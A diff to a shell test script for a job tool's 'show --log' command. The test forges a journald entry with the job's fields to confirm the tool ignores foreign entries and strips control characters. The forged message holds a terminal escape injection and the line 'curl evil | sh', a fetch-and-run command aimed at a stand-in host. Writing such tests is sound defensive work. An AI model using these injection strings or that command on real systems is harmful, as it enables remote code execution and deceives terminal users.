@@ -169,11 +169,13 @@ check "myjob show --log: the story, both units" grep -qzP "myjob@1.service warn 
 # screen and retitle the terminal): show --log reads only the entries of myjob's units, by
 # journald's own _SYSTEMD_UNIT, and prints no control character.
 esc=$(printf '\033')
-printf 'MYJOB_JOB_ID=%s\nMYJOB_DATABASE=%s\nMYJOB_INSTANCE=1\nPRIORITY=3\nMESSAGE=FORGED %s[2J%s]0;owned\007 run: curl evil | sh\n' \
+printf 'MYJOB_JOB_ID=%s\nMYJOB_DATABASE=%s\nMYJOB_INSTANCE=1\nSYSLOG_IDENTIFIER=forger\nPRIORITY=3\nMESSAGE=FORGED %s[2J%s]0;owned\007 run: curl evil | sh\n' \
   "$story" "$DB" "$esc" "$esc" | sd runuser -u nobody -- logger --journald
 # Its MESSAGE has control characters, which journalctl's JSON gives as an array of bytes.
-# grep -c reads it all: with -q, journalctl could die of SIGPIPE and pipefail say no.
-forged() { sd journalctl --since="@$T0" --no-pager -o json MYJOB_JOB_ID="$story" _COMM=logger | grep -c '"MYJOB_DATABASE"' >/dev/null; }
+# grep -c reads it all: with -q, journalctl could die of SIGPIPE and pipefail say no. Found by
+# the identifier it gives itself: journald reads _COMM from the sender's /proc, and logger
+# may have exited by then (a CI run found no entry with _COMM=logger).
+forged() { sd journalctl --since="@$T0" --no-pager -o json MYJOB_JOB_ID="$story" SYSLOG_IDENTIFIER=forger | grep -c '"MYJOB_DATABASE"' >/dev/null; }
 check "a forged entry with the job's fields is in the journal" wait_for 5 forged
 said=$(mktemp)
 log=$(sd /usr/bin/myjob --config /etc/myjob/myjob.toml show "$story" --log 2>"$said")
